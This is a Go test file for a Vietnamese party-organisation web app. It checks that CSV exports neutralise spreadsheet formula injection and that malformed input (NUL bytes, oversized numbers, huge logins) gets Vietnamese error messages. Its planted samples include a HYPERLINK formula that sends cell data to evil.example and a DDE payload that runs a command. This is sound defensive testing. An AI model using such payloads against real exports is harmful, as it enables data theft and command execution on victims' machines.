package server

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"ptdang/internal/account"
	"ptdang/internal/org"
	"ptdang/internal/orgtest"
	"ptdang/internal/report"
)

// plainNumber is a cell that is a number as we write them: -5, 0,125, -48,02 %.
var plainNumber = regexp.MustCompile(`^-?[0-9][0-9.,]*( ?%)?$`)

// formulaCells returns the cells of the CSV file body that Excel would run as formulas.
func formulaCells(t *testing.T, body string) []string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff")))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	var bad []string
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell) {
				bad = append(bad, cell)
			}
		}
	}
	return bad
}

func TestNoCSVExportHoldsAFormula(t *testing.T) {
	s, base, f := serverWith(t, dashboardFixture)
	ctx, all := t.Context(), org.Everything()
	// Formulas planted where anyone with a form can put them: unit names and codes, and a login name
	// typed on the sign-in page by someone with no account at all.
	const evilName = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
	tree := orgtest.New(t, s.DB, day("2015-01-01"))
	cell := tree.Party(org.PartyUnitInput{Code: "TU.X03", Name: evilName, Kind: org.CommuneCommittee, ParentID: f.province}).
		Cell("-B2", "+84 ấp Mới", 3)
	adminCommune, err := org.GetAdminUnitByCode(ctx, s.DB, all, "DN.X01", day("2020-01-01"))
	if err != nil {
		t.Fatal(err)
	}
	tree.Admin(org.AdminUnitInput{Code: "-A1", Name: "@SUM(1+1)", Level: org.Hamlet, LocalWord: "ấp", ParentID: adminCommune.ID}).Link(cell, org.OwnCell)
	const evilLogin = `=cmd|' /C calc'!A0`
	if resp, body := send(t, &http.Client{}, "POST", base+"/login", url.Values{"login": {evilLogin}, "password": {"x"}}); resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("sign-in: %d\n%s", resp.StatusCode, body)
	}

	for _, c := range []struct {
		name, path string
		planted    string // the neutralised cell the export must hold
	}{
		{"audit", "/admin/audit.csv", "'" + strings.ToLower(evilLogin)},
		{"party units", "/org/export/party.csv?date=2024-01-01", "'" + evilName},
		{"admin units", "/org/export/admin.csv?date=2024-01-01", "'@SUM(1+1)"},
		{"links", "/org/export/links.csv?date=2024-01-01", "'-A1"},
		{"targets", "/targets/export.csv?unit=" + itoa(f.province) + "&year=2022", "'" + evilName},
		{"dashboard", "/dashboard.csv?unit=" + itoa(f.province), "'" + evilName},
	} {
		t.Run(c.name, func(t *testing.T) {
			client := f.staff
			if c.name == "audit" {
				client = f.clients[string(account.SystemAdmin)]
			}
			resp, body := send(t, client, "GET", base+c.path, nil)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%d\n%s", resp.StatusCode, body)
			}
			if bad := formulaCells(t, body); len(bad) > 0 {
				t.Errorf("cells Excel would run: %q\n%s", bad, body)
			}
			r := csv.NewReader(strings.NewReader(body))
			r.FieldsPerRecord = -1
			records, _ := r.ReadAll()
			found := false
			for _, rec := range records {
				for _, cell := range rec {
					found = found || cell == c.planted
				}
			}
			if !found {
				t.Errorf("no cell %q in\n%s", c.planted, body)
			}
		})
	}

	// Our own export imports back unchanged: the quotes come off again, and no name changes.
	for _, table := range []string{"party", "admin", "links"} {
		_, file := send(t, f.staff, "GET", base+"/org/export/"+table+".csv?date=2024-01-01", nil)
		resp, html := uploadFile(t, f.staff, base+"/org/import", table+".csv", []byte(file), url.Values{"table": {table}, "dry_run": {"1"}})
		if resp.StatusCode != http.StatusOK || !strings.Contains(html, "không có lỗi") {
			t.Errorf("%s.csv imported back: %d\n%s", table, resp.StatusCode, html)
		}
		for _, code := range []string{"TU.X03", "-B2", "-A1"} {
			if strings.Contains(html, "sửa "+code) || strings.Contains(html, "thêm "+code) || strings.Contains(html, "thôn "+code) {
				t.Errorf("%s.csv imported back changes %s:\n%s", table, code, html)
			}
		}
	}
}

func TestHostileInputGetsAVietnameseMessageNeverA500(t *testing.T) {
	s, base, f := serverWith(t, newReportFixture)
	admin := signedInUser(t, s, base, "quantri", account.SystemAdmin, 0)
	q1 := report.Period{Year: 2026, Quarter: 1}
	form := func(kv ...string) url.Values {
		v := url.Values{}
		for i := 0; i < len(kv); i += 2 {
			v.Set(kv[i], kv[i+1])
		}
		return v
	}
	party := func(name, members string) url.Values {
		return form("code", "TU.X01.A09", "name", name, "kind", "affiliated_cell", "org_type", "territorial",
			"parent_code", "TU.X01", "from", "01/01/2024", "full_members", members, "term_months", "60")
	}
	const (
		int32Over = "2147483648"          // 2^31
		int64Max  = "9223372036854775807" // 2^63-1
	)
	for _, c := range []pageCheck{
		{"report figure 2^31", f.sec, "POST", reportHref(f.cell, q2026), form("action", "save", "version", "0", "opening", int32Over),
			422, []string{"Đầu quý: số quá lớn; một chi bộ không có quá 100.000 đảng viên."}},
		{"report figure 2^63-1", f.sec, "POST", reportHref(f.cell, q2026), form("action", "submit", "version", "0", "opening", int64Max, "closing", int64Max, "full_members", int64Max),
			422, []string{"Cuối quý: số quá lớn"}},
		{"report figure beyond 2^63", f.sec, "POST", reportHref(f.cell, q2026), form("action", "save", "version", "0", "admitted", "99999999999999999999"),
			422, []string{"Kết nạp mới: số quá lớn"}},
		{"a billion admitted, confirmed", f.sec, "POST", reportHref(f.cell, q2026), form("action", "submit", "version", "0", "confirm", "1",
			"opening", "14", "admitted", "1.000.000.000", "closing", "1.000.000.014", "full_members", "14", "probationary", "1.000.000.000"),
			422, []string{"Kết nạp mới: số quá lớn"}},
		{"report autosave 2^40", f.sec, "POST", reportHref(f.cell, q2026) + "/autosave", form("version", "0", "opening", "1099511627776"),
			200, []string{"Chưa tự lưu: có ô chưa phải là số nguyên từ 0 đến 100.000."}},
		{"report live check 2^63-1", f.sec, "POST", reportHref(f.cell, q2026) + "/check", form("closing", int64Max),
			200, []string{"Cuối quý: số quá lớn"}},
		{"report figure with NUL", f.sec, "POST", reportHref(f.cell, q2026), form("action", "save", "version", "0", "opening", "1\x004"),
			422, []string{"Đầu quý: Ô này có ký tự không hợp lệ (ký tự NUL"}},
		{"return reason with NUL", f.xa, "POST", reportHref(f.cell, q1) + "/return", form("version", "1", "reason", "Sai số\x00 liệu"),
			422, []string{"Ô này có ký tự không hợp lệ (ký tự NUL"}},
		{"unit name with NUL, members 2^40", f.staff, "POST", "/org/party/new", party("Chi bộ\x00 ấp 9", "1099511627776"),
			422, []string{`data-testid="error-name">Ô này có ký tự không hợp lệ`, `data-testid="error-full_members">Số quá lớn`}},
		{"a cell of a billion members", f.staff, "POST", "/org/party/new", party("Chi bộ ấp 9", "1.000.000.000"),
			422, []string{`data-testid="error-full_members">Số đảng viên chính thức quá lớn: một chi bộ không có quá 100.000 đảng viên.`}},
		{"search with NUL", f.staff, "GET", "/org?q=B%00%C3%A0u", nil, 200, []string{"Ấp Bàu Cạn"}},
		{"search with invalid UTF-8", f.staff, "GET", "/org?q=B%C3%A0u%ff%fe", nil, 200, []string{"Ấp Bàu Cạn"}},
		{"audit filters with NUL", admin, "GET", "/admin/audit?by=tinh%00&label=%00TU&from=%00", nil, 200, []string{"Nhật ký thay đổi"}},
		{"audit CSV filters with NUL", admin, "GET", "/admin/audit.csv?by=%00", nil, 200, []string{"Người thực hiện"}},
		{"login with NUL", &http.Client{}, "POST", "/login", form("login", "tinh\x00", "password", testPassword),
			422, []string{"Tên đăng nhập hoặc mật khẩu có ký tự không hợp lệ (ký tự NUL). Xin gõ lại."}},
		{"login of 900 KB", &http.Client{}, "POST", "/login", form("login", strings.Repeat("a", 900<<10), "password", "x"),
			422, []string{"Tên đăng nhập dài quá: tên đăng nhập có nhiều nhất 40 ký tự."}},
		{"login of 2 MB", &http.Client{}, "POST", "/login", form("login", strings.Repeat("a", 2<<20), "password", "x"),
			400, []string{"Biểu mẫu gửi lên không đọc được hoặc quá dài (hơn 1 MB)."}},
	} {
		t.Run(c.name, func(t *testing.T) { c.check(t, base) })
	}
}

// pageText is the text of an HTML page's main part, for failure messages.
func pageText(body string) string {
	if i := strings.Index(body, "<main"); i >= 0 {
		body = body[i:]
	}
	body = regexp.MustCompile(`<[^>]*>`).ReplaceAllString(body, " ")
	body = regexp.MustCompile(`\s+`).ReplaceAllString(body, " ")
	return body[:min(len(body), 1500)]
}
